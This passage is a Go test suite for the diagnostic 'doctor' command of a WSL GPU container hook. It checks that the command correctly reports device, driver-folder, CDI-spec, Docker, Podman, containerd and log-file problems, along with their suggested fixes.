package doctor

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/wsl-gpu-hook/wsl-gpu-hook/pkg/host/dxcore"
	"github.com/wsl-gpu-hook/wsl-gpu-hook/test/fixture"
	"github.com/wsl-gpu-hook/wsl-gpu-hook/test/simhost"
)

// The laptop the tests describe (simhost's nvidia-laptop): an Intel iGPU
// and an NVIDIA dGPU.
const (
	laptop       = "nvidia-laptop"
	intelFolder  = "iigd_dch.inf_amd64_ba2ab4a3e0e0b2ea"
	nvidiaFolder = "nvltwi.inf_amd64_7b2a5c1c4e6f8d90"
	store        = `\SystemRoot\System32\DriverStore\FileRepository\`
)

func laptopAdapters(t *testing.T) []dxcore.Adapter {
	t.Helper()
	p, err := simhost.Lookup(laptop)
	if err != nil {
		t.Fatal(err)
	}
	return fixture.Adapters(p)
}

// host is a temporary WSL-shaped tree: the laptop's GPU files from
// fixture.Host, engine configuration under root/, processes under
// root/proc.
type host struct {
	t    *testing.T
	dir  string
	opt  Options
	enum *dxcore.Enumeration
	err  error
}

func newHost(t *testing.T) *host {
	t.Helper()
	dir := t.TempDir()
	h := &host{t: t, dir: dir, enum: &dxcore.Enumeration{Ioctl: "ENUMADAPTERS3", Adapters: laptopAdapters(t)}}
	gpu := fixture.Host(t, laptop, fixture.Options{Stubs: true})
	lib := filepath.Join(gpu, fixture.LibDir)
	drivers := filepath.Join(gpu, fixture.DriversDir)
	root := filepath.Join(dir, "root")
	h.mkdir(filepath.Join(root, "proc"))
	p, err := simhost.Lookup(laptop)
	if err != nil {
		t.Fatal(err)
	}
	sysfs := filepath.Join(dir, "sys")
	if err := fixture.SysfsDevices(sysfs, p, nil, nil); err != nil {
		t.Fatal(err)
	}
	euid := 0
	h.opt = Options{
		DxgDevice:   "/dev/null", // a character device everyone may open
		LibDir:      lib,
		DriversDir:  drivers,
		LogFile:     filepath.Join(dir, "log/hook.log"),
		Sysfs:       sysfs,
		SonameCache: filepath.Join(dir, "sonames"),
		Root:        root,
		ProcDir:     filepath.Join(root, "proc"),
		HostRoot:    filepath.Join(dir, "hostroot"),
		Enumerate:   func(string) (*dxcore.Enumeration, error) { return h.enum, h.err },
		Version:     func(string) string { return "" },
		Now:         func() time.Time { return time.Date(2026, 11, 23, 4, 0, 0, 0, time.UTC) },
		Euid:        &euid,
	}
	h.mkdir(filepath.Join(dir, "log"))
	return h
}

func (h *host) write(p, content string, mode os.FileMode) {
	h.t.Helper()
	h.mkdir(filepath.Dir(p))
	if err := os.WriteFile(p, []byte(content), mode); err != nil {
		h.t.Fatal(err)
	}
	if err := os.Chmod(p, mode); err != nil {
		h.t.Fatal(err)
	}
}

func (h *host) mkdir(p string) {
	h.t.Helper()
	if err := os.MkdirAll(p, 0o755); err != nil {
		h.t.Fatal(err)
	}
}

// rootFile writes a file under the engine root.
func (h *host) rootFile(p, content string, mode os.FileMode) {
	h.write(filepath.Join(h.opt.Root, p), content, mode)
}

func (h *host) link(p, target string) {
	h.t.Helper()
	full := filepath.Join(h.opt.Root, p)
	h.mkdir(filepath.Dir(full))
	if err := os.Symlink(target, full); err != nil {
		h.t.Fatal(err)
	}
}

// installed puts the engine's binary and the hook in the engine root, and
// the runtime wrapper's link to the hook when runtime is set.
func (h *host) installed(engine string, runtime bool) {
	h.t.Helper()
	lines := []string{"exe usr/bin/" + engine, "exe usr/bin/wsl-gpu-hook binary"}
	if runtime {
		lines = append(lines, "symlink usr/bin/wsl-gpu-runtime wsl-gpu-hook")
	}
	fixture.Tree(h.t, h.opt.Root, lines...)
}

// hostFile makes a host path a CDI spec may name.
func (h *host) hostFile(p string) { h.write(filepath.Join(h.opt.HostRoot, p), "x", 0o644) }

func (h *host) run() *Report {
	h.t.Helper()
	rep := Run(h.opt)
	var buf bytes.Buffer
	if err := rep.WriteText(&buf); err != nil {
		h.t.Fatal(err)
	}
	h.t.Logf("doctor:\n%s", buf.String())
	return rep
}

// want asserts the one result named check has the status, and that its
// detail and fix contain the given texts.
func want(t *testing.T, rep *Report, check string, s Status, detail, fix string) {
	t.Helper()
	var got []Result
	for _, r := range rep.Results {
		if r.Check == check {
			got = append(got, r)
		}
	}
	if len(got) != 1 {
		t.Fatalf("want one result %q, got %d: %+v", check, len(got), got)
	}
	r := got[0]
	if r.Status != s || !strings.Contains(r.Detail, detail) || !strings.Contains(r.Fix, fix) {
		t.Errorf("%s: got %s %q fix %q\nwant %s, detail containing %q, fix containing %q", check, r.Status, r.Detail, r.Fix, s, detail, fix)
	}
	if fix == "" && r.Fix != "" && s == OK {
		t.Errorf("%s: an ok result offers a fix %q", check, r.Fix)
	}
}

// wantNone asserts no result is named check.
func wantNone(t *testing.T, rep *Report, check string) {
	t.Helper()
	for _, r := range rep.Results {
		if r.Check == check {
			t.Errorf("a %s line where there is none: %+v", check, r)
		}
	}
}

func TestHealthyLaptop(t *testing.T) {
	h := newHost(t)
	rep := h.run()
	if rep.Failed() {
		t.Fatalf("a healthy host fails")
	}
	want(t, rep, "dxg", OK, "character device 1:3, mode 0666, opens read-write as root", "")
	want(t, rep, "kernel", OK, "LX_DXENUMADAPTERS3", "")
	want(t, rep, "adapter 0", OK, "folder "+filepath.Join(h.opt.DriversDir, intelFolder), "")
	want(t, rep, "adapter 1", OK, "NVIDIA GeForce RTX 3060 Laptop GPU (nvidia, LUID 0x4486d1, WDDM 3.0)", "")
	want(t, rep, "lib dir", OK, "libcuda.so.1, libnvidia-ml.so.1, nvidia-smi", "")
	want(t, rep, "cdi", OK, "no CDI spec", "")
	want(t, rep, "docker", OK, "not installed", "")
	want(t, rep, "podman", OK, "not installed", "")
	want(t, rep, "containerd", OK, "not installed", "")
	want(t, rep, "log", OK, "does not exist yet", "")
	want(t, rep, "warm start", OK, "names all 2 adapters: a container start with a warm probe cache does not open /dev/null", "")
}

// TestGPUFaults: each fault of the hook's fault suite names its check and
// its fix.
func TestGPUFaults(t *testing.T) {
	tests := []struct {
		name   string
		fault  func(h *host)
		check  string
		status Status
		detail string
		fix    string
	}{
		{"device missing", func(h *host) { h.opt.DxgDevice = filepath.Join(h.dir, "dxg") },
			"dxg", Fail, "does not exist: this is not a WSL2 VM", "wsl --update"},
		{"device a file", func(h *host) {
			h.opt.DxgDevice = filepath.Join(h.dir, "dxg")
			h.write(h.opt.DxgDevice, "", 0o666)
		}, "dxg", Fail, "is not a character device", ""},
		{"old kernel", func(h *host) { h.enum.Ioctl = "ENUMADAPTERS2" },
			"kernel", Warn, "never lists compute-only adapters", "in Windows: wsl --update"},
		{"no enumerate ioctl", func(h *host) { h.enum, h.err = nil, fmt.Errorf("enumerate: %w", dxcore.ErrUnsupported) },
			"kernel", Fail, "knows neither", "in Windows: wsl --update"},
		{"zero adapters", func(h *host) { h.enum, h.err = nil, dxcore.ErrNoAdapters },
			"adapters", Fail, "no GPU adapters", "install or update the GPU driver, then wsl --shutdown"},
		{"NVIDIA query fails", func(h *host) {
			h.enum.Adapters = h.enum.Adapters[:1]
			h.enum.Skipped = []*dxcore.AdapterError{{Index: 1, LUID: dxcore.LUID{Low: 0x4486d1}, Err: fmt.Errorf("query DRIVERVERSION: device removed")}}
		}, "adapter 1", Fail, "LUID 0x4486d1 did not answer its queries", "install or update the GPU driver"},
		{"NVIDIA folder gone", func(h *host) { os.RemoveAll(filepath.Join(h.opt.DriversDir, nvidiaFolder)) },
			"adapter 1", Fail, "the Windows driver was probably updated while WSL was running", "in Windows: wsl --shutdown"},
		{"NVIDIA folder a file", func(h *host) {
			p := filepath.Join(h.opt.DriversDir, nvidiaFolder)
			os.RemoveAll(p)
			h.write(p, "not a dir", 0o644)
		}, "adapter 1", Fail, "is not a directory: refusing it", ""},
		{"NVIDIA folder a link to /", func(h *host) {
			p := filepath.Join(h.opt.DriversDir, nvidiaFolder)
			os.RemoveAll(p)
			os.Symlink("/", p)
		}, "adapter 1", Fail, "is a symlink: refusing it", ""},
		{"NVIDIA folder root only", func(h *host) { os.Chmod(filepath.Join(h.opt.DriversDir, nvidiaFolder), 0o700) },
			"adapter 1", Fail, "is not readable by everyone (mode 0700)", "sudo chmod a+rx " + "DRIVERS/" + nvidiaFolder},
		{"drivers dir missing", func(h *host) { os.RemoveAll(h.opt.DriversDir) },
			"adapter 1", Fail, "does not exist: WSL mounts it for GPU drivers", "in Windows: wsl --shutdown"},
		{"lib dir missing", func(h *host) { os.RemoveAll(h.opt.LibDir) },
			"lib dir", Fail, "does not exist: WSL mounts the GPU user-mode libraries there", "wsl --shutdown"},
		{"lib dir a file", func(h *host) { os.RemoveAll(h.opt.LibDir); h.write(h.opt.LibDir, "x", 0o644) },
			"lib dir", Fail, "is not a directory", ""},
		{"lib dir root only", func(h *host) { os.Chmod(h.opt.LibDir, 0o700) },
			"lib dir", Fail, "is mode 0700", "sudo chmod a+rx LIB"},
		{"libcuda missing", func(h *host) { os.Remove(filepath.Join(h.opt.LibDir, "libcuda.so.1")) },
			"lib dir", Fail, "lacks libcuda.so.1 although an NVIDIA adapter is present", "reinstall the NVIDIA driver"},
		{"no dxgkrnl in sysfs", func(h *host) { os.RemoveAll(filepath.Join(h.opt.Sysfs, "bus/vmbus")) },
			"warm start", Warn, "cannot list the GPU driver's devices in sysfs", ""},
		{"sysfs names another LUID", func(h *host) { h.enum.Adapters[1].LUID.Low++ },
			"warm start", Warn, "names no VM-bus channel for adapter LUID 0x4486d2", ""},
		{"sysfs_dir turned off", func(h *host) { h.opt.Sysfs, h.opt.NoSysfs = "", true },
			"warm start", OK, "every container start opens /dev/null to list the adapters", ""},
		{"registry case", func(h *host) { h.enum.Adapters[1].DriverStorePath = store + strings.ToUpper(nvidiaFolder) },
			"adapter 1", OK, "the registry spells it " + strings.ToUpper(nvidiaFolder), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHost(t)
			tt.fault(h)
			rep := h.run()
			fix := strings.NewReplacer("DRIVERS", h.opt.DriversDir, "LIB", h.opt.LibDir).Replace(tt.fix)
			want(t, rep, tt.check, tt.status, tt.detail, fix)
			if rep.Failed() != (tt.status == Fail) {
				t.Errorf("Failed() = %v with a %s result", rep.Failed(), tt.status)
			}
		})
	}
}

// nvidiaSpec is fixture.NVIDIASpec, the shape of `nvidia-ctk cdi generate
// --mode=wsl` (the driver folder's hash is in every path), with two
// entries these checks are also about: a tmpfs mount, which names no host
// path, and nvidia-cdi-hook's hook, which does. They extend the spec's
// containerEdits, whose mounts list comes last.
func nvidiaSpec(folder string) string {
	return fixture.NVIDIASpec(folder) + fmt.Sprintf(`  - hostPath: tmpfs
    containerPath: /run/scratch
    type: tmpfs
  hooks:
  - hookName: createContainer
    path: /usr/bin/nvidia-cdi-hook
    args: [nvidia-cdi-hook, create-symlinks, --link, /usr/lib/wsl/drivers/%s/nvidia-smi::/usr/bin/nvidia-smi]
`, folder)
}

const ourSpec = `{"cdiVersion":"0.6.0","kind":"wsl-gpu-hook.dev/gpu","devices":[{"name":"all","containerEdits":{"deviceNodes":[{"path":"/dev/dxg"}]}}],
"containerEdits":{"hooks":[{"hookName":"createContainer","path":"/usr/bin/wsl-gpu-hook","args":["wsl-gpu-hook","cdi-hook"]}],
"mounts":[{"hostPath":"/usr/lib/wsl/lib","containerPath":"/usr/lib/wsl/lib","options":["ro","rbind"]}]}}`

func TestCDISpecs(t *testing.T) {
	const oldFolder = "nvltwi.inf_amd64_0000000000000000"
	hostPaths := []string{"/dev/dxg", "/usr/bin/nvidia-cdi-hook", "/usr/bin/wsl-gpu-hook", "/usr/lib/wsl/lib/libdxcore.so",
		"/usr/lib/wsl/drivers/" + nvidiaFolder + "/libcuda.so.1.1", "/usr/lib/wsl/drivers/" + nvidiaFolder + "/nvidia-smi"}
	tests := []struct {
		name   string
		specs  map[string]string // path under the root -> content
		gone   []string          // host paths removed after setup
		check  string
		status Status
		detail string
		fix    string
	}{
		{name: "current NVIDIA spec", specs: map[string]string{"/etc/cdi/nvidia.yaml": nvidiaSpec(nvidiaFolder)},
			check: "cdi /etc/cdi/nvidia.yaml", status: OK, detail: "nvidia.com/gpu: nvidia.com/gpu=all; every path it names exists"},
		{name: "stale NVIDIA spec", specs: map[string]string{"/etc/cdi/nvidia.yaml": nvidiaSpec(oldFolder)},
			check: "cdi /etc/cdi/nvidia.yaml", status: Fail,
			detail: "/usr/lib/wsl/drivers/" + oldFolder + "/libcuda.so.1.1, /usr/lib/wsl/drivers/" + oldFolder + `/nvidia-smi no longer exist on the host: the spec names a driver store folder by its hash, and a Windows driver update replaced that folder; containers given these devices fail to start or print "Failed to initialize NVML: N/A"`,
			fix:    "sudo nvidia-ctk cdi generate --output=/etc/cdi/nvidia.yaml, or use ours, which follows driver updates: sudo rm /etc/cdi/nvidia.yaml && sudo wsl-gpu-hook install cdi"},
		{name: "our spec", specs: map[string]string{"/etc/cdi/wsl-gpu-hook.json": ourSpec},
			check: "cdi /etc/cdi/wsl-gpu-hook.json", status: OK, detail: "wsl-gpu-hook.dev/gpu (ours): wsl-gpu-hook.dev/gpu=all"},
		{name: "our spec, hook gone", specs: map[string]string{"/var/run/cdi/wsl-gpu-hook.json": ourSpec}, gone: []string{"/usr/bin/wsl-gpu-hook"},
			check: "cdi /var/run/cdi/wsl-gpu-hook.json", status: Fail, detail: "/usr/bin/wsl-gpu-hook no longer exists on the host",
			fix: "sudo wsl-gpu-hook install cdi (regenerates /var/run/cdi/wsl-gpu-hook.json"},
		{name: "device node gone", specs: map[string]string{"/etc/cdi/nvidia.yaml": nvidiaSpec(nvidiaFolder)}, gone: []string{"/dev/dxg"},
			check: "cdi /etc/cdi/nvidia.yaml", status: Fail, detail: "/dev/dxg no longer exists on the host; containers given these devices fail"},
		{name: "conflict in one dir", specs: map[string]string{"/etc/cdi/nvidia.yaml": nvidiaSpec(nvidiaFolder), "/etc/cdi/other.yaml": nvidiaSpec(nvidiaFolder)},
			check: "cdi /etc/cdi/other.yaml", status: Fail, detail: `conflicting device "nvidia.com/gpu=all"`, fix: "remove one of the conflicting specs"},
		{name: "override across dirs", specs: map[string]string{"/etc/cdi/nvidia.yaml": nvidiaSpec(nvidiaFolder), "/var/run/cdi/nvidia.yaml": nvidiaSpec(nvidiaFolder)},
			check: "cdi /etc/cdi/nvidia.yaml", status: Warn, detail: "nvidia.com/gpu=all (by /var/run/cdi/nvidia.yaml)"},
		{name: "broken spec", specs: map[string]string{"/etc/cdi/broken.json": `{"cdiVersion":"0.6.0","kind":"nope"`},
			check: "cdi /etc/cdi/broken.json", status: Fail, detail: "engines skip this spec", fix: "fix or remove /etc/cdi/broken.json"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHost(t)
			for _, p := range hostPaths {
				h.hostFile(p)
			}
			for _, p := range tt.gone {
				os.Remove(filepath.Join(h.opt.HostRoot, p))
			}
			for p, c := range tt.specs {
				h.rootFile(p, c, 0o644)
			}
			// Stale-ness is about the paths CDI names, on a real WSL host.
			h.opt.DriversDir = "/usr/lib/wsl/drivers"
			h.opt.Enumerate = func(string) (*dxcore.Enumeration, error) { return nil, dxcore.ErrNoAdapters }
			rep := h.run()
			want(t, rep, tt.check, tt.status, tt.detail, tt.fix)
		})
	}
}

// fakeProc makes a process in the fake /proc started at start.
func (h *host) fakeProc(pid int, comm string, start time.Time, env ...string) {
	boot := start.Add(-time.Hour)
	dir := filepath.Join(h.opt.ProcDir, fmt.Sprint(pid))
	h.write(filepath.Join(h.opt.ProcDir, "stat"), fmt.Sprintf("cpu 1 2 3\nbtime %d\n", boot.Unix()), 0o644)
	h.write(filepath.Join(dir, "comm"), comm+"\n", 0o644)
	h.write(filepath.Join(dir, "environ"), strings.Join(env, "\x00")+"\x00", 0o644)
	h.write(filepath.Join(dir, "cmdline"), comm+"\x00", 0o644)
	// starttime (field 22) in clock ticks since boot; the name has a space
	// and a parenthesis, as a hostile process name may.
	h.write(filepath.Join(dir, "stat"), fmt.Sprintf("%d (%s x) S 1 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 %d 0 0", pid, comm, 3600*clockTicks), 0o644)
}

func (h *host) touch(p string, t time.Time) {
	h.t.Helper()
	if err := os.Chtimes(filepath.Join(h.opt.Root, p), t, t); err != nil {
		h.t.Fatal(err)
	}
}

func TestDocker(t *testing.T) {
	started := time.Date(2026, 11, 23, 3, 0, 0, 0, time.UTC)
	withRuntime := `{"runtimes": {"wsl-gpu": {"path": "/usr/bin/wsl-gpu-runtime"}}}`
	tests := []struct {
		name    string
		setup   func(h *host)
		version string
		check   string
		status  Status
		detail  string
		fix     string
	}{
		{name: "runtime installed", setup: func(h *host) { h.rootFile(daemonJSON, withRuntime, 0o644) },
			check: "docker runtime", status: OK, detail: `runtime "wsl-gpu" is /usr/bin/wsl-gpu-runtime`},
		{name: "no runtime", setup: func(h *host) { h.rootFile(daemonJSON, `{"log-level": "warn"}`, 0o644) },
			check: "docker runtime", status: Warn, detail: `has no "wsl-gpu" runtime`, fix: "sudo wsl-gpu-hook install docker"},
		{name: "runtime binary gone", setup: func(h *host) {
			h.rootFile(daemonJSON, withRuntime, 0o644)
			os.Remove(filepath.Join(h.opt.Root, "/usr/bin/wsl-gpu-runtime"))
		}, check: "docker runtime", status: Fail, detail: "which does not exist", fix: "sudo wsl-gpu-hook install docker"},
		{name: "daemon.json broken", setup: func(h *host) { h.rootFile(daemonJSON, `{"runtimes": `, 0o644) },
			check: "docker runtime", status: Fail, detail: "is not valid JSON: dockerd refuses to start"},
		{name: "our hook on the default PATH", setup: func(h *host) { h.link("/usr/bin/"+nvidiaHook, "wsl-gpu-hook") },
			check: "docker --gpus", status: OK, detail: "/usr/bin/nvidia-container-runtime-hook on systemd's default PATH (dockerd is not running) is wsl-gpu-hook"},
		{name: "our hook on dockerd's PATH", setup: func(h *host) {
			h.link("/usr/libexec/wsl-gpu-hook/"+nvidiaHook, "/usr/bin/wsl-gpu-hook")
			// started after the link was made
			h.fakeProc(42, "dockerd", time.Now().Add(time.Hour), "PATH=/usr/libexec/wsl-gpu-hook:/usr/bin")
		}, check: "docker --gpus", status: OK, detail: "/usr/libexec/wsl-gpu-hook/nvidia-container-runtime-hook on dockerd's PATH (pid 42)"},
		{name: "hook off dockerd's PATH", setup: func(h *host) {
			h.link("/usr/libexec/wsl-gpu-hook/"+nvidiaHook, "/usr/bin/wsl-gpu-hook")
			h.fakeProc(42, "dockerd", started, "PATH=/usr/sbin:/usr/bin")
		}, check: "docker --gpus", status: Warn, detail: "no nvidia-container-runtime-hook on dockerd's PATH (pid 42)", fix: "sudo wsl-gpu-hook install docker"},
		{name: "NVIDIA's hook first", setup: func(h *host) {
			h.rootFile("/usr/bin/"+nvidiaHook, "#!/bin/sh\n", 0o755)
			h.link("/usr/local/bin/"+nvidiaHook, "/usr/bin/wsl-gpu-hook")
			h.fakeProc(42, "dockerd", started, "PATH=/usr/bin:/usr/local/bin")
		}, check: "docker --gpus", status: Warn, detail: "/usr/bin/nvidia-container-runtime-hook on dockerd's PATH (pid 42) is not wsl-gpu-hook", fix: "--runtime wsl-gpu"},
		{name: "hook newer than dockerd", setup: func(h *host) {
			h.link("/usr/bin/"+nvidiaHook, "wsl-gpu-hook")
			h.fakeProc(42, "dockerd", started.Add(-48*time.Hour), "PATH=/usr/bin")
		}, check: "docker --gpus", status: Warn, detail: "appeared after dockerd started", fix: "sudo systemctl restart docker"},
		{name: "nvidia-cdi-hook and no spec", version: "Docker version 29.2.0, build 1", setup: func(h *host) {
			h.link("/usr/bin/"+nvidiaHook, "wsl-gpu-hook")
			h.rootFile("/usr/bin/"+nvidiaCDI, "#!/bin/sh\n", 0o755)
		}, check: "docker cdi-first", status: Warn, detail: "Docker 29.2 turns --gpus into CDI nvidia.com/gpu first, and no usable spec defines it", fix: "sudo wsl-gpu-hook install cdi"},
		{name: "nvidia-cdi-hook, old Docker", version: "Docker version 28.1.1, build 1", setup: func(h *host) {
			h.rootFile("/usr/bin/"+nvidiaCDI, "#!/bin/sh\n", 0o755)
		}, check: "docker cdi", status: OK, detail: "CDI is off by default in Docker 28.1"},
		{name: "CDI off", version: "Docker version 29.0.0, build 1", setup: func(h *host) { h.rootFile(daemonJSON, `{"features": {"cdi": false}}`, 0o644) },
			check: "docker cdi", status: OK, detail: "CDI is off (features.cdi = false"},
		{name: "CDI on by default", version: "Docker version 28.2.2, build 1", setup: func(h *host) { h.rootFile(daemonJSON, `{}`, 0o644) },
			check: "docker cdi", status: OK, detail: "CDI is on"},
		{name: "daemon.json newer than dockerd", setup: func(h *host) {
			h.rootFile(daemonJSON, withRuntime, 0o644)
			h.fakeProc(42, "dockerd", started)
		}, check: "docker restart", status: Warn, detail: "changed after dockerd started (2026-11-23T03:00:00Z)", fix: "sudo systemctl restart docker"},
		{name: "dockerd restarted", setup: func(h *host) {
			h.rootFile(daemonJSON, withRuntime, 0o644)
			h.touch(daemonJSON, started.Add(-time.Minute))
			h.fakeProc(42, "dockerd", started)
		}, check: "docker restart", status: OK, detail: "dockerd (pid 42) started 2026-11-23T03:00:00Z"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHost(t)
			h.installed("dockerd", true)
			h.opt.Version = func(p string) string {
				if filepath.Base(p) == "dockerd" {
					return tt.version
				}
				return ""
			}
			tt.setup(h)
			want(t, h.run(), tt.check, tt.status, tt.detail, tt.fix)
		})
	}
}

func TestPodman(t *testing.T) {
	hooksD := func(path string) string {
		return fmt.Sprintf(`{"version":"1.0.0","hook":{"path":%q,"args":["wsl-gpu-hook","prestart"]},"when":{"annotations":{"^wsl-gpu-hook/devices$":".+"}},"stages":["prestart"]}`, path)
	}
	tests := []struct {
		name    string
		version string
		setup   func(h *host)
		check   string
		status  Status
		detail  string
		fix     string
	}{
		{name: "version", version: "podman version 4.3.1", setup: func(*host) {},
			check: "podman", status: OK, detail: "/usr/bin/podman, version 4.3"},
		{name: "hooks.d missing", setup: func(*host) {},
			check: "podman hooks.d", status: Warn, detail: "no wsl-gpu-hook.json", fix: "sudo wsl-gpu-hook install podman"},
		{name: "hooks.d from the package", setup: func(h *host) {
			h.rootFile("/usr/share/containers/oci/hooks.d/wsl-gpu-hook.json", hooksD("/usr/bin/wsl-gpu-hook"), 0o644)
		}, check: "podman hooks.d", status: OK, detail: "/usr/share/containers/oci/hooks.d/wsl-gpu-hook.json runs /usr/bin/wsl-gpu-hook"},
		{name: "admin file masks, hook gone", setup: func(h *host) {
			h.rootFile("/usr/share/containers/oci/hooks.d/wsl-gpu-hook.json", hooksD("/usr/bin/wsl-gpu-hook"), 0o644)
			h.rootFile("/etc/containers/oci/hooks.d/wsl-gpu-hook.json", hooksD("/usr/local/bin/wsl-gpu-hook"), 0o644)
		}, check: "podman hooks.d", status: Fail, detail: "/etc/containers/oci/hooks.d/wsl-gpu-hook.json runs /usr/local/bin/wsl-gpu-hook, which does not exist", fix: "sudo wsl-gpu-hook install podman"},
		{name: "podman 5 without nvidia.com/gpu", version: "podman version 5.4.2", setup: func(*host) {},
			check: "podman cdi", status: Warn, detail: `"unresolvable CDI devices"`, fix: "sudo wsl-gpu-hook install cdi"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHost(t)
			h.installed("podman", false)
			h.opt.Version = func(string) string { return tt.version }
			tt.setup(h)
			want(t, h.run(), tt.check, tt.status, tt.detail, tt.fix)
		})
	}
}

func TestContainerd(t *testing.T) {
	v2 := "version = 2\n[plugins.\"io.containerd.grpc.v1.cri\".containerd.runtimes.wsl-gpu]\nruntime_type = \"io.containerd.runc.v2\"\n[plugins.\"io.containerd.grpc.v1.cri\".containerd.runtimes.wsl-gpu.options]\nBinaryName = \"/usr/bin/wsl-gpu-runtime\"\n"
	v3drop := "version = 3\n[plugins.'io.containerd.cri.v1.runtime'.containerd.runtimes.wsl-gpu.options]\nBinaryName = '/usr/bin/wsl-gpu-runtime'\n"
	tests := []struct {
		name    string
		version string
		setup   func(h *host)
		check   string
		status  Status
		detail  string
		fix     string
	}{
		{name: "v2 handler", version: "containerd github.com/containerd/containerd 1.7.24 abc", setup: func(h *host) { h.rootFile(containerdCfg, v2, 0o644) },
			check: "containerd handler", status: OK, detail: `handler "wsl-gpu" in /etc/containerd/config.toml runs /usr/bin/wsl-gpu-runtime`},
		{name: "no handler", setup: func(h *host) { h.rootFile(containerdCfg, "version = 2\n", 0o644) },
			check: "containerd handler", status: Warn, detail: `no "wsl-gpu" runtime handler under plugins."io.containerd.grpc.v1.cri"`, fix: "sudo wsl-gpu-hook install containerd"},
		{name: "v3 drop-in", version: "containerd github.com/containerd/containerd/v2 v2.2.0 abc", setup: func(h *host) {
			h.rootFile(containerdCfg, "version = 3\nimports = [\"/etc/containerd/conf.d/*.toml\"]\n", 0o644)
			h.rootFile("/etc/containerd/conf.d/wsl-gpu.toml", v3drop, 0o644)
		}, check: "containerd handler", status: OK, detail: "in /etc/containerd/conf.d/wsl-gpu.toml runs /usr/bin/wsl-gpu-runtime"},
		{name: "v3 CDI on by default", version: "containerd github.com/containerd/containerd/v2 v2.2.0 abc", setup: func(h *host) { h.rootFile(containerdCfg, "version = 3\n", 0o644) },
			check: "containerd cdi", status: OK, detail: "CDI is on (the default of containerd 2)"},
		{name: "1.7 CDI switched on", version: "containerd github.com/containerd/containerd 1.7.24 abc", setup: func(h *host) {
			h.rootFile(containerdCfg, "version = 2\n[plugins.\"io.containerd.grpc.v1.cri\"]\nenable_cdi = true\n", 0o644)
		}, check: "containerd cdi", status: OK, detail: "CDI is on (enable_cdi = true)"},
		{name: "broken config", setup: func(h *host) { h.rootFile(containerdCfg, "version = = 2\n", 0o644) },
			check: "containerd", status: Fail, detail: "does not parse, so containerd refuses to start"},
		{name: "handler binary gone", setup: func(h *host) {
			h.rootFile(containerdCfg, v2, 0o644)
			os.Remove(filepath.Join(h.opt.Root, "/usr/bin/wsl-gpu-runtime"))
		}, check: "containerd handler", status: Fail, detail: "which does not exist"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHost(t)
			h.installed("containerd", true)
			h.opt.Version = func(string) string { return tt.version }
			tt.setup(h)
			want(t, h.run(), tt.check, tt.status, tt.detail, tt.fix)
		})
	}
}

func TestLog(t *testing.T) {
	tests := []struct {
		name   string
		setup  func(h *host)
		status Status
		detail string
	}{
		{"disabled", func(h *host) { h.opt.LogFile, h.opt.NoLog = "", true }, OK, "disabled"},
		{"no directory", func(h *host) { h.opt.LogFile = filepath.Join(h.dir, "nodir/hook.log") }, Fail, "its directory"},
		{"clean", func(h *host) {
			h.write(h.opt.LogFile, `time="2026-11-23T03:59:00Z" level=info msg="gave the GPU"`+"\n", 0o640)
		}, OK, "no errors in the last 24 hours"},
		{"recent error", func(h *host) {
			h.write(h.opt.LogFile, `time="2026-11-22T01:00:00Z" level=error msg="old"`+"\n"+
				`time="2026-11-23T03:58:00Z" level=error msg="mount failed"`+"\n", 0o640)
		}, Warn, `1 error line in the last 24 hours, latest: time="2026-11-23T03:58:00Z" level=error msg="mount failed"`},
		{"error words inside a value", func(h *host) {
			h.write(h.opt.LogFile, `time="2026-11-23T03:58:00Z" level=info msg="apply" bundle="/run/x level=error y"`+"\n"+
				`time="2026-11-23T03:58:30Z" level=warn msg="skip level=fatal"`+"\n", 0o640)
		}, OK, "no errors in the last 24 hours"},
		{"a directory", func(h *host) { h.mkdir(h.opt.LogFile) }, Fail, "is not a regular file"},
		// What the hook refuses to write (hooklog.OpenFile), doctor says.
		{"a symlink", func(h *host) {
			h.write(filepath.Join(h.dir, "elsewhere"), "", 0o640)
			if err := os.Symlink(filepath.Join(h.dir, "elsewhere"), h.opt.LogFile); err != nil {
				t.Fatal(err)
			}
		}, Fail, "is a symlink: the hook does not write its log through a link"},
		{"writable by group", func(h *host) { h.write(h.opt.LogFile, "", 0o660) }, Fail, "is writable by group or others (mode 0660)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHost(t)
			tt.setup(h)
			want(t, h.run(), "log", tt.status, tt.detail, "")
		})
	}
}

// TestOutput: one line per check in text, every field in JSON.
func TestOutput(t *testing.T) {
	h := newHost(t)
	h.opt.DxgDevice = filepath.Join(h.dir, "dxg")
	rep := h.run()
	var text bytes.Buffer
	if err := rep.WriteText(&text); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(text.String(), "\n"), "\n")
	if len(lines) != len(rep.Results) {
		t.Fatalf("%d lines for %d results", len(lines), len(rep.Results))
	}
	if want := "fail  dxg: " + h.opt.DxgDevice + " does not exist"; !strings.HasPrefix(lines[0], want) || !strings.HasSuffix(lines[0], "  -> fix: in Windows: wsl --update, then wsl --shutdown") {
		t.Errorf("first line %q", lines[0])
	}
	var js bytes.Buffer
	if err := rep.WriteJSON(&js); err != nil {
		t.Fatal(err)
	}
	var back Report
	if err := json.Unmarshal(js.Bytes(), &back); err != nil || len(back.Results) != len(rep.Results) || back.Results[0] != rep.Results[0] {
		t.Errorf("JSON does not round-trip: %v\n%s", err, js.String())
	}
	if !strings.Contains(js.String(), `"status": "fail"`) || !strings.Contains(js.String(), `"fix": "in Windows: wsl --update, then wsl --shutdown"`) {
		t.Errorf("JSON lacks the fields tools read:\n%s", js.String())
	}
}

func TestParseVersion(t *testing.T) {
	for in, want := range map[string]version{
		"Docker version 20.10.24+dfsg1, build 297e128":               {20, 10},
		"podman version 5.4.2":                                       {5, 4},
		"containerd github.com/containerd/containerd 1.6.20~ds1 1.6": {1, 6},
		"containerd github.com/containerd/containerd/v2 v2.2.0 abc":  {2, 2},
		"": {},
	} {
		if got := parseVersion(in); got != want {
			t.Errorf("parseVersion(%q) = %v, want %v", in, got, want)
		}
	}
